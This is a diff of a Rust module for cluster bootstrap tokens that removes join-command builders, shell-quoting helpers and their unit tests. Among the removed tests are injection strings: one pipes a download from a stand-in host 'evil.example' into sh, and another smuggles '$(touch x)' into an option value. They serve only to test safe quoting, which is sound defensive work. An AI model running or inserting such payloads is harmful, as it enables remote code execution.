@@ -1,5 +1,4 @@
-//! Tokens with which clusters register: what can be read off one, how bootstrap tokens are made and kept, and the line
-//! that a cluster joins with.
+//! Tokens with which clusters register: what can be read off one, and how bootstrap tokens are made and kept.
 
 use std::collections::BTreeMap;
 use std::fmt;
@@ -13,10 +12,8 @@ use ocm_api::Manifest;
 use ocm_api::names::bootstrap;
 use serde_json::Value;
 
-use crate::certificate;
 use crate::duration::human;
 use crate::install::rbac;
-use crate::pin::Pin;
 use crate::{Failure, Reason};
 
 /// Type of the Secrets that hold bootstrap tokens.
@@ -25,8 +22,6 @@ pub const SECRET_TYPE: &str = "bootstrap.kubernetes.io/token";
 pub const SECRET_PREFIX: &str = "bootstrap-token-";
 /// The label that marks what is ours.
 pub const MANAGED_BY: (&str, &str) = ("app.kubernetes.io/managed-by", "kubectl-ocm");
-/// What stands in a line for the name that the cluster is to get.
-pub const NAME_TO_FILL_IN: &str = "<cluster_name>";
 
 /// What a token says about itself. Nothing of it is verified; the hub does that.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -280,89 +275,6 @@ pub fn is_id(word: &str) -> bool {
     is_word(word, ID_LENGTH)
 }
 
-/// What a cluster joins with, apart from its name.
-#[derive(Clone, PartialEq, Eq)]
-pub struct JoinCommand {
-    /// The token.
-    pub token: String,
-    /// The hub's address as agents dial it.
-    pub server: String,
-    /// Keys of the authorities that vouch for the hub there; none: every system trusts it anyway.
-    pub pins: Vec<Pin>,
-    /// The authority's certificate, where a joiner could not learn it from the hub.
-    pub ca: Vec<Vec<u8>>,
-}
-
-impl fmt::Debug for JoinCommand {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.debug_struct("JoinCommand").field("server", &self.server).field("pins", &self.pins).finish_non_exhaustive()
-    }
-}
-
-impl JoinCommand {
-    /// The line that joins a cluster.
-    pub fn join_line(&self) -> String {
-        let mut line = format!(
-            "kubectl ocm join {NAME_TO_FILL_IN} --hub-token {} --hub-apiserver {}",
-            shell(&self.token),
-            shell(&self.server)
-        );
-        for pin in &self.pins {
-            line += &format!(" --hub-ca-pin {pin}");
-        }
-        for certificate in &self.ca {
-            line += &format!(" --hub-ca-data {}", certificate::to_base64(certificate));
-        }
-        line
-    }
-
-    /// The line in clusteradm's words, for scripts that take it apart.
-    pub fn clusteradm_line(&self) -> String {
-        format!(
-            "clusteradm join --hub-token {} --hub-apiserver {} --cluster-name {NAME_TO_FILL_IN}",
-            self.token, self.server
-        )
-    }
-}
-
-/// Whether the standard library leaves the character as it is within a text: it can be seen, or belongs to the one before
-/// it as accents do.
-pub fn is_visible(c: char) -> bool {
-    if c.is_ascii() {
-        return !c.is_ascii_control();
-    }
-    String::from_iter(['a', c]).escape_debug().nth(1) == Some(c)
-}
-
-/// Quotes a word for a shell if it needs that. One with characters that cannot be seen, which no terminal would be shown as
-/// they are, is written with escapes, `$'…'`: what is pasted is what is meant. A shell that knows no such escapes reads one
-/// quoted word, too: no quote stands within.
-pub fn shell(word: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
-        return word.to_owned();
-    }
-    if word.chars().all(is_visible) {
-        return format!("'{}'", word.replace('\'', r"'\''"));
-    }
-    let mut text = "$'".to_owned();
-    for c in word.chars() {
-        match c {
-            '\\' => text += r"\\",
-            '\n' => text += r"\n",
-            c if c != '\'' && is_visible(c) => text.push(c),
-            c => c.encode_utf8(&mut [0; 4]).bytes().for_each(|byte| text += &format!("\\{byte:03o}")),
-        }
-    }
-    text + "'"
-}
-
-/// A word of the options of a command with its value: one that begins with `-` would be taken for an option of its own.
-pub fn option(flag: &str, value: &str) -> String {
-    let between = if value.starts_with('-') { '=' } else { ' ' };
-    format!("{flag}{between}{}", shell(value))
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -447,47 +359,5 @@ mod tests {
         let mut opaque = secret(&BootstrapToken::draw(|| 1), None);
         opaque.type_ = Some("Opaque".to_owned());
         assert_eq!(Kept::read(&opaque, at(0)), None);
-    }
-
-    #[test]
-    fn lines() {
-        let join_command = JoinCommand {
-            token: "a.b".to_owned(),
-            server: "https://h:6443".to_owned(),
-            pins: Vec::new(),
-            ca: Vec::new(),
-        };
-        assert_eq!(
-            join_command.join_line(),
-            "kubectl ocm join '<cluster_name>' --hub-token a.b --hub-apiserver https://h:6443".replace('\'', "")
-        );
-        assert_eq!(
-            join_command.clusteradm_line(),
-            "clusteradm join --hub-token a.b --hub-apiserver https://h:6443 --cluster-name <cluster_name>"
-        );
-        let certificate = rcgen::generate_simple_self_signed(vec!["hub".to_owned()]).unwrap().cert.der().to_vec();
-        let pin = Pin::of(&certificate).unwrap();
-        let full = JoinCommand { pins: vec![pin], ca: vec![certificate.clone()], ..join_command };
-        assert!(
-            full.join_line()
-                .ends_with(&format!(" --hub-ca-pin {pin} --hub-ca-data {}", certificate::to_base64(&certificate)))
-        );
-        assert!(!format!("{full:?}").contains("a.b"));
-    }
-
-    #[test]
-    fn words_are_quoted_for_shells_when_they_must() {
-        assert_eq!(shell("https://h:6443/x"), "https://h:6443/x");
-        assert_eq!(shell("a b"), "'a b'");
-        assert_eq!(shell("it's"), r"'it'\''s'");
-        assert_eq!(shell(""), "''");
-        assert_eq!(shell("x;curl evil.example|sh;#"), "'x;curl evil.example|sh;#'");
-        assert_eq!(shell("it's\n\\\u{200b}\u{9b}"), r"$'it\047s\n\\\342\200\213\302\233'");
-    }
-
-    #[test]
-    fn values_of_options_are_no_options() {
-        assert_eq!(option("--requester", "$(touch x)"), "--requester '$(touch x)'");
-        assert_eq!(option("--requester", "--without-request"), "--requester=--without-request");
     }
 }
